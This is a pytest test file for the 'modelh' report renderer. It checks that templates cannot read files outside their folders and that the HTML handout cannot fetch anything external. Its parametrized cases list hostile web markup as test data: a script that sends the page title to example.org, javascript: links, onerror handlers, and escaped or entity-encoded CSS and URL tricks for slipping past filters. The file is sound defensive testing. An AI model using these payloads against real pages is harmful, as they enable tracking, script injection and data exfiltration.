"""A template folder cannot reach files outside the template folders."""

from __future__ import annotations

import shutil

import pytest

from modelh import load_canvas
from modelh.report import shorten as short
from modelh.report.render import (
    FetchRefusedError,
    ReportError,
    ReportOptions,
    render_html,
    render_pdf,
)

from .conftest import ROOT

EXAMPLE = ROOT / "canvases" / "tidewell-cardiometabolic.yaml"


@pytest.fixture
def canvas(tmp_path):
    path = tmp_path / "client" / "canvas.yaml"
    path.parent.mkdir()
    shutil.copy(EXAMPLE, path)
    (path.parent / "other-client.yaml").write_text("secret: another client's canvas\n")
    return load_canvas(path)


def test_a_template_linked_to_a_file_outside_is_refused(canvas, tmp_path):
    templates = tmp_path / "templates"
    templates.mkdir()
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-HOSTNAME")
    (templates / "extra.css").symlink_to(secret)
    with pytest.raises(ReportError, match="leads out of the template folders"):
        render_html(canvas, ReportOptions(template_dir=templates))


def test_a_template_cannot_attach_a_file_next_to_the_canvas(canvas, tmp_path):
    pytest.importorskip("weasyprint")
    templates = tmp_path / "templates"
    (templates / "sections").mkdir(parents=True)
    other = canvas.file.replace("canvas.yaml", "other-client.yaml")
    (templates / "sections" / "cover.html.j2").write_text(
        f'<link rel="attachment" href="file://{other}"><h1>Cover</h1>'
    )
    with pytest.raises(ReportError, match="a template refers to file://"):
        render_pdf(canvas, ReportOptions(template_dir=templates, sections=("cover",)))


@pytest.mark.parametrize(
    "markup",
    [
        '<img src="http://example.org/track.png">',
        "<script src='//cdn.example.org/x.js'></script>",
        '<div style="background: url(https://example.org/bg.png)"></div>',
    ],
)
def test_the_html_report_refers_to_nothing_outside_it(canvas, tmp_path, markup):
    templates = tmp_path / "templates"
    (templates / "sections").mkdir(parents=True)
    (templates / "sections" / "cover.html.j2").write_text(f"{markup}<h1>Cover</h1>")
    with pytest.raises(ReportError, match="the report carries everything it shows"):
        render_html(canvas, ReportOptions(template_dir=templates, sections=("cover",)))


def test_a_very_long_title_is_shortened_visibly_and_whole_in_the_documents_title(canvas):
    import dataclasses

    title = "Medicare Advantage and employer relationships " * 8
    info = dataclasses.replace(
        canvas.canvas, title=title.strip(), confidentiality="Confidential " * 20
    )
    html = render_html(dataclasses.replace(canvas, canvas=info), ReportOptions())
    # the cover shows at most TITLE_CHARS of it (the cover stays one page), the
    # document's own title all of it
    cover = html.split("<h1>", 1)[1].split("</h1>", 1)[0]
    assert cover.endswith("…") and len(cover) <= short.TITLE_CHARS
    assert title.strip().startswith(cover[:-1])
    assert f"<title>{title.strip()}" in html
    sub = html.split('<p class="sub">', 1)[1].split("</p>", 1)[0]
    assert sub.endswith("…") and len(sub) <= 150
    running = html.split('data-title="', 1)[1].split('"', 1)[0]
    assert running.endswith("…") and len(running) <= 80


def test_a_template_error_names_the_template_file_and_line(canvas, tmp_path):
    templates = tmp_path / "templates"
    (templates / "sections").mkdir(parents=True)
    cover = templates / "sections" / "cover.html.j2"
    cover.write_text("<h1>Cover</h1>\n{{ report.nosuch }}\n")
    with pytest.raises(ReportError, match=rf"{cover}:2: uses something the report"):
        render_html(canvas, ReportOptions(template_dir=templates, sections=("cover",)))


def test_a_warning_about_the_logo_does_not_quote_the_whole_file():
    from modelh.report.pdf import _readable_warning

    uri = "data:image/svg+xml;base64," + "QUJD" * 500
    message = _readable_warning(f"Failed to render SVG image {uri}")
    assert message == "Failed to render SVG image (the embedded image/svg+xml)"


# ---------------------------------------------------------------------------
# The HTML handout is safe by construction: an allowlist over the final HTML


def _cover_template(tmp_path, markup: str):
    templates = tmp_path / "templates"
    (templates / "sections").mkdir(parents=True, exist_ok=True)
    (templates / "sections" / "cover.html.j2").write_text(f"{markup}<h1>Cover</h1>")
    return ReportOptions(template_dir=templates, sections=("cover",))


@pytest.mark.parametrize(
    ("markup", "named"),
    [
        ("<script>fetch('https://example.org/t?' + document.title)</script>", "<script>"),
        ('<meta http-equiv="refresh" content="0;url=https://example.org/">', "http-equiv"),
        ('<img src="http&#58;//example.org/t.png" alt="">', "http://example.org/t.png"),
        ('<img src="&#x68;ttps://example.org/t.png" alt="">', "https://example.org/t.png"),
        ('<div style="background: u\\72 l(https://example.org/bg.png)"></div>', "https://"),
        ("<style>.x { background: u\\72 l(https://example.org/bg.png) }</style>", "https://"),
        (
            '<link rel="stylesheet" href="data:text/css,@import url(https://example.org/a.css);">',
            "<link>",
        ),
        ("<style>@import url('data:text/css,p{color:red}');</style>", "@import"),
        (
            '<img alt="" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" '
            'srcset="data:image/gif;base64,R0lGODlhAQABAAAAACw= 1x, '
            'https://example.org/2x.png 2x">',
            "srcset",
        ),
        (
            "<div style=\"background-image: image-set('https://example.org/a.png' 1x)\"></div>",
            "image-set()",
        ),
        ('<iframe srcdoc="&lt;img src=https://example.org/t.png&gt;"></iframe>', "<iframe>"),
        ('<p srcdoc="x">text</p>', "srcdoc"),
        (
            '<img alt="" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="fetch(1)">',
            "onerror",
        ),
        ('<a href="javascript:fetch(1)">x</a>', "javascript:"),
        ('<svg><image href="https://example.org/t.png"/></svg>', "https://"),
        (
            '<svg><rect fill="url(https://example.org/p.svg#p)" width="1" height="1"/></svg>',
            "https",
        ),
        ("<svg><style>rect { fill: red }</style></svg>", "<style> element inside <svg>"),
        ("<style>p { color: red }</style><img src=x.png alt=''>", "x.png"),
        ('<base href="https://example.org/">', "<base>"),
        ("<object data='https://example.org/x.swf'></object>", "<object>"),
    ],
)
def test_a_template_cannot_make_the_handout_fetch_anything(canvas, tmp_path, markup, named):
    options = _cover_template(tmp_path, markup)
    with pytest.raises(FetchRefusedError) as refused:
        render_html(canvas, options)
    assert named in refused.value.message


def test_the_handout_carries_a_policy_that_allows_only_data_urls(canvas):
    from html.parser import HTMLParser

    found = []

    class Policy(HTMLParser):
        def handle_starttag(self, tag, attrs):
            attrs = dict(attrs)
            if tag == "meta" and attrs.get("http-equiv") == "Content-Security-Policy":
                found.append(attrs["content"])

    html = render_html(canvas, ReportOptions(sections=("cover",)))
    Policy().feed(html)
    (policy,) = found
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
    assert directives["default-src"] == "'none'"  # no script, no connection, no frame
    assert directives["img-src"] == "data:" and directives["font-src"] == "data:"
    assert "http" not in policy and "script-src" not in policy
    assert html.index("Content-Security-Policy") < html.index("<style>")


def test_links_and_data_urls_and_the_shipped_markup_are_kept(canvas, tmp_path):
    markup = (
        '<a href="https://example.org/firm">Our firm</a> <a href="#section-cover">top</a>'
        '<svg viewBox="0 0 2 2"><defs><linearGradient id="g"><stop offset="0"/></linearGradient>'
        '</defs><rect fill="url(#g)" width="2" height="2"/></svg><!-- a comment -->'
    )
    html = render_html(canvas, _cover_template(tmp_path, markup))
    assert '<a href="https://example.org/firm">Our firm</a>' in html
    assert '<linearGradient id="g">' in html and 'fill="url(#g)"' in html
    assert "a comment" not in html


def test_canvas_text_that_looks_like_markup_or_urls_is_just_text(canvas):
    import dataclasses

    title = "See url(https://example.org/x) and <img src=https://example.org/t.png>"
    info = dataclasses.replace(canvas.canvas, title=title, organization="@import 'x'; srcset=")
    html = render_html(dataclasses.replace(canvas, canvas=info), ReportOptions())
    assert "See url(https://example.org/x) and &lt;img src=https://example.org/t.png&gt;" in html


def test_a_very_long_title_renders_in_linear_time(canvas):
    """A 60 KB title once took minutes (a quadratic pattern); it is text like any other."""
    import dataclasses
    import time

    title = "url(https:" * 6_000  # 60 KB of what the old guard searched for
    info = dataclasses.replace(canvas.canvas, title=title)
    start = time.perf_counter()
    html = render_html(dataclasses.replace(canvas, canvas=info), ReportOptions())
    elapsed = time.perf_counter() - start
    assert title in html
    assert elapsed < 30  # a hang guard: about 1 s here; the quadratic guard took minutes
